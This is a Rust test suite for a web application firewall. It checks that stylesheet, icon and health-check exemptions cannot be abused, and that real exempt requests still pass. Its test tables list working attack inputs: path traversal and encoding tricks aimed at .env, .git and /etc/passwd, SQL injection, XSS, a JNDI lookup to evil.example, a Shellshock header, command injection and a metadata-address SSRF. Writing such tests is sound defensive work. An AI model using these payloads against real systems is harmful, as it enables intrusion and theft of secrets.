//! Exempt paths as a disguise: no request gets past the firewall by looking like a stylesheet, an
//! icon or a health check, and the requests that the exemptions are meant for still pass.

// Helpers may fail like the test itself.
#![allow(clippy::unwrap_used)]

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU32, Ordering};

use aiwaf_core::{
    BodyPlan, CollectedBody, Firewall, FirewallBuilder, HeaderPairs, Mode, Peer, RequestView,
    RouteMatch, RoutePolicy, Settings, Verdict,
    settings::{PathRule, PayloadExemption},
};

/// A client that `header_validation` accepts.
const CURL: &HeaderPairs<'static> = &[
    ("host", b"shop.example"),
    ("user-agent", b"curl/8.14.1"),
    ("accept", b"*/*"),
];

/// A client that is refused on every path except an exempt one.
const SCANNER: &HeaderPairs<'static> = &[
    ("host", b"shop.example"),
    ("user-agent", b"sqlmap/1.9#stable (https://sqlmap.org)"),
    ("accept", b"*/*"),
];

/// Every request comes from a new client.
struct Site {
    firewall: Firewall,
    clients: AtomicU32,
}

impl Site {
    fn new() -> Self {
        Self {
            firewall: Firewall::builder().build().unwrap(),
            clients: AtomicU32::new(0),
        }
    }

    fn send(&self, method: &str, target: &str, headers: &HeaderPairs<'_>, body: &[u8]) -> String {
        let client = self.clients.fetch_add(1, Ordering::Relaxed);
        self.send_from(client, method, target, headers, body)
    }

    /// The code of the cause, or `ok`.
    fn send_from(
        &self,
        client: u32,
        method: &str,
        target: &str,
        headers: &HeaderPairs<'_>,
        body: &[u8],
    ) -> String {
        let view = RequestView {
            headers,
            peer: Peer::Address(Ipv4Addr::from(0x2000_0000 + client).into()),
            route: RouteMatch::Unknown,
            ..RequestView::new(method, target.as_bytes())
        };
        let (verdict, mut exchange) = self.firewall.inspect(&view);
        let verdict = match verdict {
            Verdict::NeedBody(plan) => {
                let BodyPlan { limit, .. } = plan;
                assert!(body.len() <= limit);
                let body = CollectedBody::Whole(body);
                self.firewall.inspect_body(&view, &mut exchange, plan, body)
            }
            verdict => verdict,
        };
        verdict
            .refusal()
            .map_or("ok", |refusal| refusal.cause.code())
            .to_owned()
    }

    fn get(&self, target: &str) -> String {
        self.send("GET", target, CURL, b"")
    }
}

#[track_caller]
fn assert_all(cases: impl IntoIterator<Item = (String, String, &'static str)>) {
    let wrong: Vec<String> = cases
        .into_iter()
        .filter(|(_, got, expected)| !expected.split('|').any(|code| code == got))
        .map(|(case, got, expected)| format!("{case}: {got}, not {expected}"))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Targets that begin or end like an exempt path but lead elsewhere, and the causes of their
/// refusal.
const TRICKS: &[(&str, &str)] = &[
    // Out of an exempt directory.
    ("/static/../.env", "probe"),
    ("/static/../admin/.env", "probe"),
    ("/static/./../.git/config", "probe"),
    ("/assets/x/../../.git/config", "probe"),
    ("/.well-known/../wp-login.php", "probe"),
    ("/css/..//..//.env", "probe"),
    ("/health/../.git/config", "probe"),
    // The same paths, encoded once, twice, three times and more often than any server decodes.
    ("/static/%2e%2e/.env", "probe"),
    ("/static/%2E%2e%2f.env", "probe"),
    ("/static/..%2f.env", "probe"),
    ("/static/..%252f.env", "probe"),
    ("/static/%252e%252e%252f%252eenv", "probe"),
    ("/static/..%25252f.env", "probe"),
    ("/static/..%2525252525252f.env", "spent_path|payload"),
    ("/static/%u002e%u002e/.env", "probe"),
    ("/static/%uff0e%uff0e/%uff0eenv", "probe"),
    // Overlong UTF-8 and full-width letters.
    ("/static/%c0%ae%c0%ae/.env", "probe"),
    ("/static/..%c0%af.env", "probe"),
    ("/static/..%e0%80%af.env", "probe"),
    ("/static/%f0%80%80%ae./.env", "probe"),
    // Backslashes.
    ("/static/..\\.env", "probe"),
    ("/static\\..\\.git\\config", "probe"),
    ("/static/..%5c.env", "probe"),
    ("/static/..%255c..%255c.env", "probe|payload"),
    // Parameters of a segment, which servlet containers cut off.
    ("/static/..;/.env", "probe"),
    ("/x.css/..;/.env", "probe"),
    ("/x.css/..;a=b/wp-login.php", "probe"),
    ("/.env;.css", "probe"),
    ("/.env;/x.css", "probe"),
    ("/wp-login.php;x=.css", "probe"),
    ("/.git/config%3b.png", "probe"),
    // An extension after the requested file: servers cut at the NUL, or take the path before it for
    // the script.
    ("/.env/x.png", "probe"),
    ("/.env/.css", "probe"),
    ("/.git/config/a.css", "probe"),
    ("/wp-login.php/x.css", "probe"),
    ("/shell.php/static/x.js", "probe"),
    ("/.env%00.css", "probe"),
    ("/.env%2500.png", "probe"),
    ("/static/%2%00e%2%00e/.env", "probe"),
    ("/.env%0a.css", "probe"),
    ("/.env%20.css", "probe"),
    // A query or a fragment is no extension.
    ("/.env?x=.css", "probe"),
    ("/.env?/static/x.css", "probe"),
    ("/.env#.css", "probe"),
    ("/.env%3f.css", "probe"),
    ("/.env%23.css", "probe"),
    // Case, and slashes and dots at the ends.
    ("/STATIC/../.ENV", "probe"),
    ("/Static/%2E%2E/.Git/Config", "probe"),
    ("//static/..//.env", "probe"),
    ("/static/..///.env//", "probe"),
    ("/.env/", "probe"),
    ("/.env.", "probe"),
    ("/static/.env", "probe"),
    ("/assets/.git/HEAD", "probe"),
    ("/img/shell.php", "probe"),
    ("/.well-known/.env", "probe"),
    // Absolute form: the path follows the authority.
    ("http://shop.example/static/../.env", "probe"),
    ("http://shop.example/.env?x=/static/a.css", "probe"),
    ("https://x.css/.git/config", "probe"),
    // Files of the machine.
    ("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "probe"),
    ("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "probe"),
    ("/static/..%5c..%5c..%5cwindows%5cwin.ini", "probe"),
    // The payload in the head is judged on exempt paths too.
    ("/static/app.js?v=1'%20OR%20'1'='1'--", "payload"),
    ("/favicon.ico?x=<script>alert(1)</script>", "payload"),
    ("/health?cmd=;cat%20/etc/passwd", "payload"),
    ("/images/${jndi:ldap:%2f%2fevil.example%2fa}.png", "payload"),
    (
        "/static/app.js?next=http://169.254.169.254/latest/",
        "payload",
    ),
];

#[test]
fn no_disguise_hides_a_probe_or_an_attack() {
    assert!(TRICKS.len() >= 40);
    let site = Site::new();
    assert_all(
        TRICKS
            .iter()
            .map(|(target, expected)| ((*target).to_owned(), site.get(target), *expected)),
    );
}

/// Each trick with every method that could fetch something with it.
#[test]
fn nor_does_another_method() {
    let site = Site::new();
    let cases = ["HEAD", "POST", "PUT", "OPTIONS", "PROPFIND", "GETS", "get"];
    let site = &site;
    assert_all(cases.iter().flat_map(|method| {
        TRICKS.iter().map(move |(target, expected)| {
            let got = site.send(method, target, CURL, b"");
            (format!("{method} {target}"), got, *expected)
        })
    }));
}

/// Targets that are an exempt path after normalisation, and may be another path to a router.
const INTO: &[&str] = &[
    "/static/..%2fwebhook",
    "/orders/..%2fwebhook",
    "/orders/%2e%2e/webhook",
    "/orders/../webhook",
    "/orders/..;/webhook",
    "/orders/..%5cwebhook",
    "/orders/..%252fwebhook",
    "/orders\\..\\webhook",
    "/webhook;/orders",
    "/webhook;orders",
    "//webhook",
    "/./webhook",
    "/webhook%00",
    "/%2fwebhook",
];

#[test]
fn nobody_gets_into_an_exempt_path_or_route_by_a_detour() {
    let operator = |settings: &mut Settings| {
        settings.exempt_paths_extra = vec!["/webhook".to_owned()];
    };
    let rule = |settings: &mut Settings| {
        settings.path_rules = vec![PathRule {
            prefix: "/webhook".to_owned(),
            mode: Some(Mode::Off),
            ..PathRule::default()
        }];
    };
    let field = |settings: &mut Settings| {
        settings.payload.exempt = vec![PayloadExemption {
            path: "/webhook".to_owned(),
            ..PayloadExemption::default()
        }];
    };
    let route = |builder: FirewallBuilder| builder.route("/webhook", RoutePolicy::exempt());
    let sites = [
        Firewall::builder().with_settings(operator),
        Firewall::builder().with_settings(rule),
        Firewall::builder().with_settings(field),
        route(Firewall::builder()),
    ];
    for builder in sites {
        let site = Site {
            firewall: builder.build().unwrap(),
            clients: AtomicU32::new(0),
        };
        let attack = "?q=1'+union+select+password+from+users--";
        assert_eq!(site.get(&format!("/webhook{attack}")), "ok");
        assert_all(INTO.iter().map(|target| {
            let got = site.get(&format!("{target}{attack}"));
            ((*target).to_owned(), got, "payload|probe")
        }));
    }
}

/// Exempt paths skip the header checks only for the head of a request, and only for GET and HEAD.
const NOT_EXEMPT: &[(&str, &str)] = &[
    ("POST", "/static/app.js"),
    ("PUT", "/favicon.ico"),
    ("DELETE", "/health"),
    ("PATCH", "/assets/x"),
    ("POST", "/health"),
    ("get", "/static/app.js"),
    ("GETS", "/static/app.js"),
    ("GET", "/x.css/y"),
    ("GET", "/x.css/..;/y"),
    ("GET", "/static/../y"),
    ("GET", "/static/%2e%2e/y"),
    ("GET", "/static/..%252fy"),
    ("GET", "/static/..\\y"),
    ("GET", "/static"),
    ("GET", "/statics/y"),
    ("GET", "/xstatic/y"),
    ("GET", "/health/"),
    ("GET", "/health/y"),
    ("GET", "/health/../y"),
    ("GET", "/healthz"),
    ("GET", "/health.php.y"),
    ("GET", "/y?x=.css"),
    ("GET", "/y?/static/"),
    ("GET", "/y#.css"),
    ("GET", "/y;.css"),
    ("GET", "/y;/static/x"),
    ("GET", "/y/.css"),
    ("GET", "/.css"),
    ("GET", "/y.css."),
    ("GET", "/y.css/"),
    ("GET", "/ycss"),
    ("GET", "/y.css%20"),
    ("GET", "/y.css%3fz"),
    ("GET", "/favicon.ico/y"),
    ("GET", "/y/favicon.icon"),
    ("GET", "/robots.txt~"),
    ("GET", "http://x.css/y"),
    ("GET", "//static/../y"),
    // A router that takes these paths as sent may select another route.
    ("GET", "/static/a/b/../c.woff2"),
    ("GET", "/static//app.js"),
    ("GET", "/img/logo.svg;v=2"),
];

#[test]
fn a_path_that_is_not_exempt_has_its_headers_judged() {
    assert!(NOT_EXEMPT.len() >= 20);
    let site = Site::new();
    assert_all(NOT_EXEMPT.iter().map(|(method, target)| {
        let got = site.send(method, target, SCANNER, b"");
        (format!("{method} {target}"), got, "scanner")
    }));
}

/// The requests that the exemptions are meant for.
const EXEMPT: &[&str] = &[
    "/favicon.ico",
    "/FAVICON.ICO",
    "/robots.txt",
    "/sitemap.xml",
    "/ads.txt",
    "/.well-known/acme-challenge/kQ2V5h",
    "/.well-known/security.txt",
    "/apple-touch-icon.png",
    "/manifest.json",
    "/health",
    "/Health",
    "/ping",
    "/status",
    "/static/app.4f2a9c.js",
    "/app.css?v=3",
    "/theme/%73tyle.css",
    "/uploads/2026/Strand%20am%20Abend.JPG",
    "/fonts/inter.woff2",
    "http://shop.example/static/app.js",
];

#[test]
fn what_the_exemptions_are_for_goes_by_without_its_headers_being_judged() {
    let site = Site::new();
    assert_all(EXEMPT.iter().flat_map(|target| {
        ["GET", "HEAD"].map(|method| {
            let got = site.send(method, target, SCANNER, b"");
            (format!("{method} {target}"), got, "ok")
        })
    }));
}

/// A header that names another path or method changes nothing: the service routes by the request
/// line.
#[test]
fn headers_that_name_another_path_or_method_exempt_nothing() {
    let site = Site::new();
    let tricks: [(&str, &[u8]); 8] = [
        ("x-original-url", b"/static/app.js"),
        ("x-rewrite-url", b"/favicon.ico"),
        ("x-original-uri", b"/health"),
        ("x-forwarded-uri", b"/static/app.js"),
        ("x-forwarded-path", b"/static/"),
        ("x-http-method-override", b"GET"),
        ("x-http-method", b"GET"),
        ("x-method-override", b"HEAD"),
    ];
    assert_all(tricks.into_iter().flat_map(|trick| {
        let with = |client: &HeaderPairs<'static>| [client, &[trick]].concat();
        let case = |what: &str| format!("{what} with {}", trick.0);
        [
            (
                case("probe"),
                site.send("GET", "/.env", &with(CURL), b""),
                "probe",
            ),
            (
                case("scanner"),
                site.send("GET", "/y", &with(SCANNER), b""),
                "scanner",
            ),
            (
                case("scanner's post"),
                site.send("POST", "/static/app.js", &with(SCANNER), b""),
                "scanner",
            ),
        ]
    }));
}

/// An attack in a header is refused on exempt paths as on any other.
#[test]
fn headers_of_exempt_paths_are_searched_for_attacks() {
    let site = Site::new();
    let attacks: [(&str, &[u8]); 5] = [
        ("x-original-url", b"/../../../../etc/passwd"),
        ("x-api-version", b"${jndi:ldap://evil.example/a}"),
        ("referer", b"() { :;}; /bin/bash -c id"),
        ("cookie", b"id=1' UNION SELECT password FROM users--"),
        ("x-forwarded-for", b"<script>alert(1)</script>"),
    ];
    assert_all(attacks.into_iter().flat_map(|attack| {
        ["/static/app.js", "/health", "/logo.png"].map(|target| {
            let got = site.send("GET", target, &[CURL, &[attack]].concat(), b"");
            (format!("{} to {target}", attack.0), got, "payload")
        })
    }));
}

/// A body is judged on every path and with every method.
#[test]
fn bodies_to_exempt_paths_are_judged() {
    let site = Site::new();
    let body = b"comment=1'+UNION+SELECT+password+FROM+users--";
    let headers = [
        CURL,
        &[
            ("content-type", b"application/x-www-form-urlencoded"),
            ("content-length", b"45"),
        ],
    ]
    .concat();
    assert_eq!(body.len(), 45);
    assert_all(
        ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"].map(|method| {
            let got = site.send(method, "/static/app.js", &headers, body);
            (method.to_owned(), got, "payload")
        }),
    );
}

/// Exempt paths count against ten times the limits; they are not unlimited.
#[test]
fn exempt_paths_are_limited_too() {
    let site = Site::new();
    let refused_after = |client: u32, target: &str| {
        (0..20_000).find(|_| site.send_from(client, "GET", target, CURL, b"") != "ok")
    };
    assert_eq!(refused_after(1 << 20, "/y"), Some(100));
    assert_eq!(refused_after(2 << 20, "/static/app.js"), Some(1000));
    // The same file in another spelling counts as the same file.
    assert!(site.send_from(2 << 20, "GET", "/static/x/../app.js", CURL, b"") != "ok");
}
